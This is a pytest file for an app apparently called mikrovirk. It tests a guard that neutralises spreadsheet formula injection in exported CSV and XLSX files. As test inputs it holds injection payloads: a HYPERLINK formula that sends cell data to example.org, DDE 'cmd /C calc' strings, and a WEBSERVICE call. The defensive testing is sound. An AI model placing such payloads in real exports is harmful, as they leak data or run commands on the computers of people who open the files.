"""What is exported is safe to open in a spreadsheet program: the guard, and that every file goes by it."""

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook

from mikrovirk.common.cells import harmless
from mikrovirk.directory.domain.member_lists import writing
from mikrovirk.directory.domain.member_lists.reading import read_member_list
from mikrovirk.directory.services import spreadsheets
from mikrovirk.fund import given_files
from mikrovirk.overview.drawing import tables
from mikrovirk.overview.page import open_rows
from mikrovirk.overview.panels.parts import Column, Panel, Table

SOURCE = Path(__file__).parents[2] / "src" / "mikrovirk"
EVIL = '=HYPERLINK("https://example.org/?"&A1;"Klik")'
# What makes the cells of a file that another module writes.
MADE_BY = {"home/open_formats/writing.py": "home/open_formats/tables.py"}
# Written without the guard, and why.
WITHOUT = {
    "fund/domain/pabulib/writing.py": "a .pb file is read by programs that count, letter for letter; no spreadsheet opens it"
}


@pytest.mark.parametrize(
    ("text", "stored"),
    [
        ("Andersen & Søn", "Andersen & Søn"),
        ("=1+1", "'=1+1"),
        ("+45 12 34 56 78", "'+45 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\ufeff\u00a0=1+1", "'\ufeff\u00a0=1+1"),
        ("＝1+1", "'＝1+1"),
        ("Kaffe;=cmd|' /C calc'!A0", "Kaffe;'=cmd|' /C calc'!A0"),  # cut at another separator than it was written with
        ('Kaffe,"=1+1', "Kaffe,'\"=1+1"),
        ("Kaffe\n-WEBSERVICE(A1)", "Kaffe\n'-WEBSERVICE(A1)"),
        ("Kaffe,+cmd|' /C calc'!A0", "Kaffe,'+cmd|' /C calc'!A0"),
        ("250,- pr. gang (to gange)", "250,- pr. gang (to gange)"),
        ("Husk:\n- kaffe (3 kander)\n- kage", "Husk:\n- kaffe (3 kander)\n- kage"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_harmless(text: object, stored: object) -> None:
    assert harmless(text) == stored


def test_every_file_for_a_spreadsheet_goes_by_the_guard() -> None:
    writing_files = {
        str(path.relative_to(SOURCE))
        for path in SOURCE.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    }
    guarded = {
        name for name in writing_files if re.search(r"[\[(]harmless\(", (SOURCE / MADE_BY.get(name, name)).read_text())
    }
    assert writing_files - guarded == set(WITHOUT)


def members() -> bytes:
    return spreadsheets.as_csv([EVIL], [[EVIL]])


def rows_to_mend() -> bytes:
    quoted = EVIL.replace('"', '""')
    return writing.unreadable_rows_csv(read_member_list(f'Navn;E-mail\n"{quoted}";ingen adresse\n'.encode()))


def fund() -> bytes:
    return given_files.as_csv(["title"], [[EVIL]]).encode()


def panel() -> Panel:
    return Panel("x", EVIL, EVIL, Table((Column(EVIL, "name"),), ((EVIL,),)))


def figures() -> bytes:
    return tables.as_csv([panel(), panel()], [EVIL])


def open_data() -> bytes:
    return open_rows.as_csv([dict.fromkeys(open_rows.NAMES, EVIL)]).encode()


@pytest.mark.parametrize("made", [members, rows_to_mend, fund, figures, open_data])
def test_no_cell_of_a_csv_file_begins_a_formula(made: Callable[[], bytes]) -> None:
    text = made().decode("utf-8-sig")
    assert EVIL[:10] in text
    for separator in (";", ","):
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
        assert [cell for cell in cells if cell.startswith("=")] == []


@pytest.mark.parametrize(
    "made",
    [lambda: spreadsheets.as_xlsx("Medlemmer", [EVIL], [[EVIL]]), lambda: tables.as_xlsx([panel(), panel()], [EVIL])],
)
def test_no_cell_of_a_workbook_is_a_formula(made: Callable[[], bytes]) -> None:
    book = load_workbook(io.BytesIO(made()))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert EVIL in {cell.value for cell in cells}
    assert {cell.data_type for cell in cells} == {"s"}
